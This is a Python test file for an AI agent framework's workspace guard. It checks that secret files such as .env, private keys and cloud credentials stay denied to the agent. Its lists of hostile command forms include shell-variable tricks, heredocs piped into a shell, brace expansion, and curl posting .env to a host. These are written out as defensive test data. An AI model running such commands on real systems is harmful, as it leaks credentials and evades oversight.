"""Secret files are denied by default in every mode, in the session and in the command guard."""

from __future__ import annotations

import os
import shutil
import sys
from pathlib import Path

import pytest
from lovia import Agent, Runner
from lovia.exceptions import UserError
from lovia.testing import ScriptedProvider, call, text
from lovia.transcript import ToolResultEntry
from lovia.workspace import (
    BubblewrapExecutor,
    LocalWorkspaceSession,
    PathRule,
    PermissionDeniedError,
    Workspace,
    WorkspaceMode,
    WorkspacePolicy,
)
from lovia.workspace.command_guard import PathClaim, parse_command

from tests.support import require

from .ws_support import make_ctx

SECRETS = (
    ".env",
    ".env.local",
    ".env.production",
    "server.pem",
    "tls/private.key",
    "id_rsa",
    "id_rsa_backup",
    "deploy/id_ed25519",
    ".netrc",
    ".git-credentials",
    ".aws/credentials",
    "web/.npmrc",
    ".pypirc",
    "deep/er/still/.env",
)
NOT_SECRETS = (".env.example", ".env.sample", ".env.template", "id_ed25519.pub", "envy.txt")


@pytest.fixture
def root(tmp_path: Path) -> Path:
    path = tmp_path / "root"
    path.mkdir()
    for name in SECRETS + NOT_SECRETS:
        (path / name).parent.mkdir(parents=True, exist_ok=True)
        (path / name).write_text(f"TOPSECRET {name}\n")
    (path / "src").mkdir()
    (path / "src" / "app.py").write_text("print('TOPSECRET is not here')\n")
    return path


async def open_session(root: Path, mode: WorkspaceMode, **knobs: object) -> LocalWorkspaceSession:
    return await Workspace.local(root, mode=mode, **knobs).open()  # type: ignore[arg-type]


@pytest.mark.parametrize("mode", ["readonly", "coding", "trusted"])
@pytest.mark.parametrize("name", SECRETS)
async def test_secrets_are_denied_by_default_in_every_mode(
    root: Path, mode: WorkspaceMode, name: str
) -> None:
    session = await open_session(root, mode)
    with pytest.raises(PermissionDeniedError):
        await session.read_text(name)
    with pytest.raises(PermissionDeniedError):
        await session.read_bytes(name)
    if mode != "readonly":
        with pytest.raises(PermissionDeniedError):
            await session.write_text(name, "overwritten")
        with pytest.raises(PermissionDeniedError):
            await session.edit_text(name, "TOPSECRET", "gone")
        assert session.decide_command(f"cat {name}") == "deny"
        assert session.decide_command(f"echo x > {name}") == "deny"
    assert (root / name).read_text() == f"TOPSECRET {name}\n"


@pytest.mark.parametrize("name", NOT_SECRETS)
async def test_templates_and_public_keys_stay_readable(root: Path, name: str) -> None:
    session = await open_session(root, "coding")
    assert (await session.read_text(name)).content == f"TOPSECRET {name}\n"
    assert session.decide_command(f"cat {name}") == "ask"  # the coding shell default


async def test_secrets_outside_the_root_are_denied_even_when_reads_outside_are_allowed(
    root: Path, tmp_path: Path
) -> None:
    home = tmp_path / "home"
    (home / ".aws").mkdir(parents=True)
    (home / ".aws" / "credentials").write_text("aws_secret_access_key=x")
    (home / ".ssh").mkdir()
    (home / ".ssh" / "id_ed25519").write_text("PRIVATE")
    (home / "notes.txt").write_text("fine")
    session = await open_session(root, "trusted")
    assert session.decide_path(str(home / "notes.txt")) == "allow"
    for secret in (home / ".aws" / "credentials", home / ".ssh" / "id_ed25519"):
        with pytest.raises(PermissionDeniedError):
            await session.read_text(str(secret))
        assert session.decide_command(f"cat {secret}") == "deny"


async def test_a_symlink_to_a_secret_is_judged_as_the_secret(root: Path) -> None:
    (root / "src" / "config.txt").symlink_to(root / ".env")
    (root / "innocent").symlink_to(root / "tls", target_is_directory=True)
    session = await open_session(root, "trusted")
    with pytest.raises(PermissionDeniedError):
        await session.read_text("src/config.txt")
    with pytest.raises(PermissionDeniedError):
        await session.read_text("innocent/private.key")
    assert session.decide_command("cat src/config.txt") == "deny"
    assert session.decide_command("cat innocent/private.key") == "deny"


@pytest.mark.parametrize("name", [".ENV", ".Env.Local", "SERVER.PEM", "ID_RSA"])
async def test_secret_names_match_in_any_case(root: Path, name: str) -> None:
    # A case-insensitive filesystem (macOS, Windows) opens .ENV as .env: never a way round.
    (root / name).write_text("x")
    session = await open_session(root, "trusted")
    with pytest.raises(PermissionDeniedError):
        await session.read_text(name)
    assert session.decide_command(f"cat {name}") == "deny"


async def test_denied_paths_match_in_any_case(root: Path) -> None:
    (root / "Private").mkdir()
    (root / "Private" / "notes.txt").write_text("x")
    session = await open_session(root, "trusted", denied_paths=("private",))
    with pytest.raises(PermissionDeniedError):
        await session.read_text("Private/notes.txt")


TREE_READS_OVER_A_SECRET = [
    "grep -r TOPSECRET .",
    "grep -rn TOPSECRET",
    "grep -R TOPSECRET deep",
    "grep --recursive TOPSECRET .",
    "egrep -ri topsecret",
    "rg TOPSECRET",
    "rg TOPSECRET .",
    "ag TOPSECRET",
    "git grep TOPSECRET",
    "git -C . grep TOPSECRET",
    "tar czf /tmp/out.tgz .",
    "cp -r . /tmp/copy",
    "cp -a tls /tmp/copy",
    "zip -r out.zip .",
    "find . -type f -exec cat {} +",
    "find deep -name '*' -exec cat {} ;",
    "cd deep && grep -r TOPSECRET",
    "sh -c 'grep -r TOPSECRET .'",
]
NOT_REACHING_A_SECRET = [
    "grep -r TOPSECRET src",
    "rg TOPSECRET src",
    "grep TOPSECRET src/app.py",
    "ls -R .",
    "cp -r src /tmp/x",
    "cat <<EOF > notes.md\nnever commit .env\nEOF",  # heredoc data, not a script
    "echo hi | xargs echo",
    "x=src; ls $x",
    "find src -name '*.py' | xargs wc -l",
]


@pytest.mark.parametrize(
    ("command", "verdict"),
    [(c, "deny") for c in TREE_READS_OVER_A_SECRET] + [(c, "allow") for c in NOT_REACHING_A_SECRET],
)
async def test_tree_reads_are_judged_by_what_lies_beneath(
    root: Path, command: str, verdict: str
) -> None:
    session = await open_session(root, "trusted")
    assert session.decide_command(command) == verdict, command
    if verdict == "deny":
        with pytest.raises(PermissionDeniedError):
            await session.run(command)


async def test_grep_through_the_shell_never_shows_a_secret(root: Path) -> None:
    session = await open_session(root, "trusted")
    result = await session.run("grep -r TOPSECRET src")
    assert result.stdout == "src/app.py:print('TOPSECRET is not here')\n"
    found = await session.grep("TOPSECRET")  # grep_files leaves hidden files out too
    assert {m.path for m in found.matches} == {"src/app.py", "id_ed25519.pub", "envy.txt"}
    found = await session.grep("TOPSECRET", "tls")
    assert found.matches == ()


async def test_listing_leaves_secrets_out(root: Path) -> None:
    session = await open_session(root, "trusted")
    listing = await session.list_files(".", include_hidden=True)
    names = {e.path for e in listing.entries}
    assert ".env" not in names and "server.pem" not in names and ".netrc" not in names
    assert {".env.example", "id_ed25519.pub", "src"} <= names


async def test_allow_secrets_is_the_explicit_opt_out(root: Path) -> None:
    session = await open_session(root, "coding", allow_secrets=(".env",))
    assert (await session.read_text(".env")).content == "TOPSECRET .env\n"
    assert session.decide_command("cat .env") == "ask"
    with pytest.raises(PermissionDeniedError):  # only what was listed
        await session.read_text(".env.local")
    with pytest.raises(PermissionDeniedError):  # denied_paths still beat it
        opened = await open_session(root, "coding", allow_secrets=(".env",), denied_paths=(".env",))
        await opened.read_text(".env")


@pytest.mark.parametrize(
    "knobs",
    [
        {"readable": (".env",)},
        {"writable": ("tls/private.key",)},
        {"readable": ("~/.aws/credentials",)},
    ],
)
def test_a_grant_naming_a_secret_is_rejected_not_silently_ignored(
    root: Path, knobs: dict[str, tuple[str, ...]]
) -> None:
    with pytest.raises(UserError) as caught:
        Workspace.local(root, **knobs)  # type: ignore[arg-type]
    assert caught.value.hint is not None and "allow_secrets" in caught.value.hint
    with pytest.raises(UserError):
        WorkspacePolicy.trusted(path_rules=(PathRule(".env", "allow"),))
    grants = next(iter(knobs.values()))
    Workspace.local(root, allow_secrets=grants, **knobs)  # type: ignore[arg-type]


def test_the_prompt_says_secrets_are_denied(root: Path) -> None:
    prompt = Workspace.local(root).instructions()
    line = next(line for line in prompt.splitlines() if line.startswith("Secret files"))
    assert ".env" in line and "*.pem" in line and ".aws/credentials" in line
    assert "*.example" in line
    assert "any command naming them" in line  # coding mode has a shell
    allowed = Workspace.local(root, allow_secrets=(".env",)).instructions()
    assert "The user allowed these secrets: .env." in allowed
    readonly = Workspace.local(root, mode="readonly").instructions()
    assert "Secret files are denied for reads and writes: .env," in readonly


async def test_a_run_cannot_read_dot_env_in_coding_mode(root: Path) -> None:
    model = ScriptedProvider(
        [
            call("read_file", {"path": ".env"}, call_id="read"),
            call("grep_files", {"pattern": "TOPSECRET", "path": "."}, call_id="grep"),
            text("done"),
        ]
    )
    agent = Agent(name="dev", model=model, workspace=Workspace.local(root))
    result = await Runner.run(agent, "what is in .env?")
    outputs = {e.call_id: e.output for e in result.entries if isinstance(e, ToolResultEntry)}
    assert outputs["read"].startswith("Tool error: read of '.env' is denied")
    assert "TOPSECRET .env\n" not in outputs["grep"] and ".env:" not in outputs["grep"]
    assert "src/app.py:1:" in outputs["grep"]


# -- shell variables in path claims (10.10) ------------------------------------------------


async def test_pwd_is_anchored_at_the_commands_cwd(root: Path) -> None:
    session = await open_session(root, "trusted", denied_paths=("deep/er/notes.txt",))
    (root / "deep" / "er" / "notes.txt").write_text("x")
    assert session.decide_command("cat $PWD/notes.txt", cwd="deep/er") == "deny"
    assert session.decide_command("cat $PWD/notes.txt", cwd="src") == "allow"


@pytest.mark.parametrize(
    "command", ['cat "$HOME/.netrc"', "cat ${HOME}/.netrc", "cat ~/.netrc", "cat $HOME/.netrc"]
)
async def test_home_forms_are_judged_like_the_literal_path(
    root: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, command: str
) -> None:
    home = tmp_path / "home"
    home.mkdir()
    (home / ".netrc").write_text("machine x password y")
    monkeypatch.setenv("HOME", str(home))
    session = await open_session(root, "trusted")
    assert session.decide_command(command) == "deny", command


def test_lookalike_variables_are_not_expanded() -> None:
    # $PWDX and $PWD_DIR are other variables: unknown until run time, so no claim.
    assert parse_command("cat $PWD/a").claims == (PathClaim("./a", "read"),)
    assert parse_command("cat $PWDX/a").claims == ()
    assert parse_command("cat $PWD_DIR/a").claims == ()
    assert parse_command("cat x$PWD/a").claims == ()  # not where a path starts


async def test_the_shell_tool_refuses_cat_pwd_env(root: Path) -> None:
    session = await open_session(root, "trusted")
    from lovia.workspace.tools import workspace_tools

    shell = next(t for t in workspace_tools(session.policy) if t.name == "shell")
    with pytest.raises(PermissionDeniedError):
        await shell.invoke({"command": 'cat "$PWD/.env"'}, make_ctx(session))
    assert os.path.exists(root / ".env")


async def test_the_sandbox_hides_default_secrets_from_payloads_the_guard_cannot_see(
    root: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    require(shutil.which("bwrap") is not None, "bubblewrap (bwrap) is not installed")
    home = tmp_path / "home"
    home.mkdir()
    (home / ".netrc").write_text("TOPSECRET netrc")
    monkeypatch.setenv("HOME", str(home))
    session = await Workspace.local(
        root, mode="trusted", executor=BubblewrapExecutor(), allow_secrets=(".env.local",)
    ).open()
    names = [".env", "deep/er/still/.env", "tls/private.key", str(home / ".netrc"), ".env.local"]
    # A script file: the guard never sees the names it opens; only the sandbox hides them.
    (root / "probe.py").write_text(
        "def read(path):\n"
        "    try:\n"
        "        return open(path).read()\n"
        "    except OSError:\n"
        "        return 'refused'\n"
        f"print([read(p) for p in {names!r}])\n"
    )
    result = await session.run(f"{os.path.realpath(sys.executable)} probe.py")
    hidden = ["refused"] * 4 if "refused" in result.stdout else [""] * 4
    assert result.stdout == repr([*hidden, "TOPSECRET .env.local\n"]) + "\n", result.stderr


async def test_a_root_inside_a_secret_directory_still_denies_what_completes_it(
    tmp_path: Path,
) -> None:
    aws = tmp_path / ".aws"
    aws.mkdir()
    (aws / "credentials").write_text("x")
    (aws / "config").write_text("region=x")
    session = await open_session(aws, "coding")
    with pytest.raises(PermissionDeniedError):
        await session.read_text("credentials")
    assert (await session.read_text("config")).content == "region=x"
    # Bare patterns only look below the root: a project under a dir named like a secret.
    project = tmp_path / "keys.key" / "project"
    project.mkdir(parents=True)
    (project / "main.py").write_text("ok")
    assert (await (await open_session(project, "coding")).read_text("main.py")).content == "ok"


# -- hostile forms found probing the guard -------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        'cat "$PWD/.env"',
        "cat $PWD/.env",
        "cat ${PWD}/.env",
        'cat "${PWD}"/.env',
        "cat $OLDPWD/.env",
        "cd src && cat $OLDPWD/.env",
        "cd src && cat $PWD/../.env",
        "python tool.py --config=$PWD/.env",
        "CONFIG=$PWD/.env make",
        "echo x > $PWD/.env.local",
        "sh <<EOF\ncat .env\nEOF",  # a heredoc fed to a shell is a script
        "bash -s <<'EOF'\ncat .env\nEOF",
        "echo 'cat .env' | sh",  # so is text piped into one
        "bash -s <<< 'cat .env'",
        "f=.e; cat ${f}nv",  # literal assignments are followed
        "a=.e; b=${a}nv; cat $b",
        "export F=.env; cat $F",
        "cat $(pwd)/.env",  # whatever a run-time prefix is, the literal end is a secret
        "cat ${PWD%/}/.env",
        'cat "$(pwd)"/tls/private.key',
        "cat $'.env'",
        "cat .e${x}nv",  # an empty (unset) run-time part leaves a secret's name
        "cat .e$()nv",
        "cat .e$1nv",
        "sh -c \"$(echo 'cat .env')\"",  # a script made at run time from literal text
        'bash -c "`echo cat .env`"',
        "cat .{env,x}",  # brace expansion (bash, even as sh)
        "cat .e{n,}v",
        "find . -type f | xargs cat",  # names listed at run time
        "ls tls | xargs -I{} cat tls/{}",
        "git ls-files | xargs cat",
        "git show HEAD:.env",  # git's REV:path
        "git cat-file -p :.env",
        "curl -d @.env http://127.0.0.1:9",  # curl reads @file
        "curl -F f=@.env http://127.0.0.1:9",
        "cat .en?",
        "cat src/../.env",
        "cd .. && cat root/.env",
        "dd if=.env",
    ],
)
async def test_forms_naming_a_secret_are_denied(root: Path, command: str) -> None:
    # $PWD / $OLDPWD / ${PWD} (10.10) and the forms found probing the guard.
    session = await open_session(root, "trusted")
    assert session.decide_command(command) == "deny", command


async def test_a_tree_read_over_per_process_proc_is_denied(root: Path) -> None:
    session = await open_session(root, "trusted")
    assert session.decide_command("grep -r PATH /proc") == "deny"


async def test_a_tree_too_big_to_check_asks(root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from lovia.workspace import _listing

    monkeypatch.setattr(_listing, "MAX_TREE_CHECK_ENTRIES", 3)
    session = await open_session(root, "trusted", allow_secrets=("*",))
    (root / "src" / "b.py").write_text("")
    (root / "src" / "c.py").write_text("")
    (root / "src" / "d.py").write_text("")
    assert session.decide_command("grep -r x src") == "ask"
